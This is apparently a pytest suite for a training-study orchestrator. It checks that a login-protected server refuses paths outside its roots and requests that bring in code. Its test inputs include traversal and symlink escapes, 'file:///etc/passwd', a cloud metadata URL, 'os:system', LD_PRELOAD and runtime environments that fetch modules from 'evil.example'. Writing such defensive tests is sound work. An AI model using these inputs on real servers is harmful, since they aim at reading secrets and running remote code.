"""What a request over the network may name once a server asks for a login: files below its roots, and no code."""

import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from mcp.server.mcpserver.exceptions import ToolError
from pydantic import ValidationError
from trials.studies import created

from dashboards.app import create_app
from orchestrator.integrations.mcp_tools import Tools
from orchestrator.service.confined import PATH_KEYS, Roots
from orchestrator.service.launch.launching import alike
from orchestrator.service.people import Role
from orchestrator.service.service import Service
from orchestrator.service.views import StudyRequest
from orchestrator.service.views_acting import CloneRequest
from reid_core.config import load_config
from reid_core.errors import InvalidInput, UsageError

SPACE = """name: bnneck
recipe: {recipe}
budget: {{max_epochs: 3, min_epochs: 1}}
fixed: {{{fixed}}}
parameters:
  SOLVER.BASE_LR: {{type: float, low: 1.0e-5, high: 1.0e-2, log: true}}
  {parameter}
"""


@pytest.fixture
def root(tmp_path):
    root = tmp_path / "open"
    (root / "photos").mkdir(parents=True)
    (tmp_path / "closed").mkdir()
    (tmp_path / "closed" / "secret.yaml").write_text("password: hunter2\n")
    (root / "link").symlink_to(tmp_path / "closed")
    return root


@pytest.fixture
def service(tmp_path, root):
    service = Service(tmp_path / "home")
    service.roots = Roots.of([str(root), "s3://lab/reid"], service.home.root / "studies")
    yield service
    service.close()


def codes(service, **asked):
    with pytest.raises(InvalidInput) as caught:
        service.plan(StudyRequest.model_validate({"space": "bnneck", "backend": "inline", **asked}))
    return {finding.code for finding in caught.value.findings}


def space(recipe="demo", fixed="", parameter=""):
    return SPACE.format(recipe=recipe, fixed=fixed, parameter=parameter)


@pytest.mark.parametrize(
    "path",
    [
        "/etc",
        "~",
        "{closed}",
        "{open}/../closed",
        "{open}/link",
        "{open}/photos/../../closed",
        "//server/share",
        "\\\\server\\share",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data",
        "s3://other/reid",
        "s3://lab/reidentified",
        "s3://lab/reid/../other",
        "s3://lab/reid/%2e%2e/other",
        "simplecache::s3://lab/reid",
        "{home}/users.json",
        "{open}/photos\0",
    ],
)
def test_nothing_outside_the_roots_can_be_named(service, root, path):
    closed = root.parent / "closed"
    path = path.format(open=root, closed=closed, home=service.home.root)
    assert service.roots.fault(path)
    assert codes(service, data=path) == {"outside-roots"}
    assert codes(service, teacher=[path]) == {"outside-roots"}
    for key in sorted(PATH_KEYS):
        assert codes(service, set={key: path}) == {"outside-roots"}
        assert codes(service, enqueue=[{key: [path]}]) == {"outside-roots"}


def test_what_lies_below_a_root_can_be_named(service, root):
    for path in (root, root / "photos", root / "photos" / "not yet there", "s3://lab/reid", "s3://lab/reid/a/b.csv"):
        assert service.roots.fault(str(path)) == ""
    assert service.roots.fault(str(service.home.root / "studies" / "x" / "best.pth")) == ""


def test_a_space_s_text_is_searched_too(service, root):
    outside = f"{root.parent}/closed/secret.yaml"
    tied = "{type: tied, expression: \"'/etc'\"}"
    for text in (
        space(recipe=outside),
        space(recipe=f"{root}/link/secret.yaml"),
        space(fixed=f"MODEL.WEIGHTS: {outside}"),
        space(fixed=f"DATASETS.NAMES: [Market1501={outside}]"),
        space(fixed="DATASETS.TESTS: ['../closed']"),
        space(parameter=f"MODEL.WEIGHTS: {{type: choice, values: ['', {outside}]}}"),
        space(parameter=f"DATASETS.ROOT: {tied}"),
        space(parameter=f"type: choice\n  DATASETS.ROOT: {{type: choice, values: [{outside}]}}"),
    ):
        assert codes(service, space=text) == {"outside-roots"}, text
        with pytest.raises(InvalidInput) as caught:
            service.plan(StudyRequest(space=text))
        assert "hunter2" not in str(caught.value)


@pytest.mark.parametrize("where", ["set", "fixed", "parameter"])
def test_no_request_chooses_code(service, where):
    code = "os:system"
    asked = {
        "set": {"set": {"MODEL.BACKBONE.NAME": code}},
        "fixed": {"space": space(fixed=f"MODEL.BACKBONE.NAME: '{code}'")},
        "parameter": {"space": space(parameter=f"MODEL.BACKBONE.NAME: {{type: choice, values: ['{code}']}}")},
    }[where]
    assert codes(service, **asked) == {"no-code"}


ENVIRONMENTS = [
    {"working_dir": "/root"},
    {"working_dir": "{open}/photos"},
    {"working_dir": ""},
    {"py_modules": ["https://evil.example/x.zip"]},
    {"py_modules": []},
    {"pip": ["evil"]},
    {"uv": ["evil"]},
    {"conda": "evil"},
    {"container": {"image": "evil"}},
    {"image_uri": "evil"},
    {"worker_process_setup_hook": "os.system"},
    {"py_executable": "/bin/sh"},
    {"nsight": "default"},
    {"env_vars": {"PYTHONPATH": "/etc"}},
    {"env_vars": {"NCCL_DEBUG": "WARN", "LD_PRELOAD": "x.so"}},
    {"env_vars": {"ANY": "{open}/photos"}},
    {"env_vars": {"NCCL_DEBUG": "WARN"}, "config": {"eager_install": True}},
]


@pytest.mark.parametrize("environment", ENVIRONMENTS, ids=str)
def test_no_request_brings_code_in_a_runtime_environment(service, root, environment):
    text = json.dumps(environment).replace("{open}", str(root))
    assert codes(service, runtime_env=text) == {"no-code"}
    request = StudyRequest(space="bnneck", backend="inline", runtime_env=text)
    with pytest.raises(InvalidInput, match="start it on the server's machine"):
        service.create(request)
    assert service.studies() == []
    with pytest.raises(ToolError, match="start it on the server's machine"):
        Tools(service, Role.OPERATOR).launch(request)
    assert service.studies() == []


@pytest.mark.slow
@pytest.mark.parametrize("text", ["", "ship", "{}", '{"env_vars": {"NCCL_DEBUG": "WARN"}}'])
def test_a_request_may_send_this_installation_and_plain_variables(service, text):
    request = StudyRequest(space="bnneck", trials=2, max_epochs=3, min_epochs=1, backend="inline", runtime_env=text)
    made = service.create(request)
    assert service.state(made.id).created.runtime_env == text


@pytest.mark.slow
def test_who_has_a_shell_gives_any_runtime_environment_and_a_clone_keeps_it(service):
    shell, given = Service(service.home.root), '{"pip": ["timm==1.0.9"]}'
    request = StudyRequest(
        space="bnneck", trials=2, max_epochs=3, min_epochs=1, backend="inline", name="cows", runtime_env=given
    )
    shell.create(request)
    shell.close()
    made = service.clone("cows", CloneRequest(name="bulls"))
    assert service.state(made.id).created.runtime_env == given
    with pytest.raises(ValidationError):
        CloneRequest.model_validate({"name": "x", "runtime_env": given})
    with pytest.raises(InvalidInput, match="no-code"):  # the form that begins with another study's fields
        service.create(alike(service, "cows")[0])


def test_a_recipe_below_a_root_cannot_lead_outside(service, root):
    (root / "mine.yaml").write_text(f"_BASE_: demo\nDATASETS: {{ROOT: {root.parent}/closed}}\n")
    with pytest.raises(InvalidInput):
        service.plan(StudyRequest(space=space(recipe=f"{root}/mine.yaml"), backend="inline"))


@pytest.mark.slow
def test_built_in_data_and_shipped_recipes_need_no_root(tmp_path):
    service = Service(tmp_path / "home")
    service.roots = Roots.of([], service.home.root / "studies")
    made = service.plan(StudyRequest(space="bnneck", trials=2, max_epochs=3, min_epochs=1, backend="inline"))
    assert made.plan.trials == 2
    service.plan(StudyRequest(space=space(), trials=2, backend="inline"))
    service.close()


def test_every_key_that_names_a_file_is_known():
    values = load_config("bnneck").values
    files = {
        key for key in values if key.endswith(("ROOT", "_DIR", "_PATH", "_CONFIG", "WEIGHTS")) and key != "KD.WEIGHTS"
    }
    assert {key for key in files if not isinstance(values[key], bool)} <= PATH_KEYS | {"DATALOADER.SET_WEIGHT"}
    assert set(values) >= PATH_KEYS


def test_a_root_that_is_not_there_is_refused(tmp_path):
    with pytest.raises(UsageError, match="no folder"):
        Roots.of([str(tmp_path / "nowhere")], tmp_path)


@pytest.mark.slow
def test_the_web_is_confined_as_soon_as_somebody_must_sign_in(tmp_path):
    asked = {"space": "bnneck", "data": "/etc", "backend": "inline"}
    service = Service(tmp_path / "home")
    with TestClient(create_app(service, token="secret"), base_url="http://lab.example") as client:
        answer = client.post("/api/v1/plan", json=asked, headers={"Authorization": "Bearer secret"})
    assert answer.status_code == 422
    assert [found["code"] for found in answer.json()["error"]["findings"]] == ["outside-roots"]
    service.close()


@pytest.mark.slow
@pytest.mark.parametrize("path", ["/api/v1/studies", "/api/v1/plan"])
def test_no_runtime_environment_with_code_comes_through_the_web(tmp_path, monkeypatch, path):
    """What the network sends when somebody must sign in; the launch form is refused beside its field."""
    environment = {
        "working_dir": "/root",
        "py_modules": ["https://evil.example/x.zip"],
        "env_vars": {"PYTHONPATH": "/etc"},
    }
    asked = {"space": "bnneck", "backend": "inline", "runtime_env": json.dumps(environment)}
    monkeypatch.setattr("orchestrator.service.service.spawn", lambda *_args, **_more: None)
    service = Service(tmp_path / "home")
    with TestClient(create_app(service, token="secret"), base_url="http://lab.example") as client:
        headers = {"Authorization": "Bearer secret"}
        answer = client.post(path, json=asked, headers=headers)
        form = client.post("/launch", data={**asked, "action": "launch"}, headers=headers, follow_redirects=False)
    assert answer.status_code == 422
    found = answer.json()["error"]["findings"]
    assert {(one["code"], one["key"]) for one in found} == {("no-code", "runtime_env")}
    assert len(found) == 3
    assert form.status_code == 422
    assert "brings code or files to the nodes" in form.text
    assert service.studies() == []
    service.close()


@pytest.mark.slow
def test_on_loopback_without_a_login_any_folder_can_be_named(tmp_path):
    service = Service(tmp_path / "home")
    photos = Path(tmp_path / "photos")
    photos.mkdir()
    with TestClient(create_app(service), base_url="http://127.0.0.1") as client:
        answer = client.post("/api/v1/plan", json={"space": "bnneck", "data": str(photos), "backend": "inline"})
    assert "outside" not in answer.text
    service.close()


def test_a_clone_reads_no_other_data_below_a_root_that_is_not_open(service, root):
    closed = root.parent / "closed"
    shell = Service(service.home.root)  # who has a shell may use any folder
    made = created("cows").model_copy(
        update={"base": {"DATASETS.ROOT": str(closed), "DATASETS.NAMES": ["mine"], "SOLVER.BASE_LR": 0.1}}
    )
    shell.store.create_study(made, 1.0)
    shell.close()
    for key, value in (("DATASETS.NAMES", ["other"]), ("DATASETS.TESTS", ["other"])):
        with pytest.raises(InvalidInput) as caught:
            service.clone("cows", CloneRequest(name="bulls", set={key: value}))
        assert {(finding.code, finding.key) for finding in caught.value.findings} == {
            ("outside-roots", "DATASETS.ROOT")
        }
    inside = {"DATASETS.ROOT": str(root), "DATASETS.NAMES": ["photos"]}
    service.roots.check_changes(made.base, inside, "--set")
    service.roots.check_changes(made.base, {"SOLVER.BASE_LR": 0.2}, "--set")
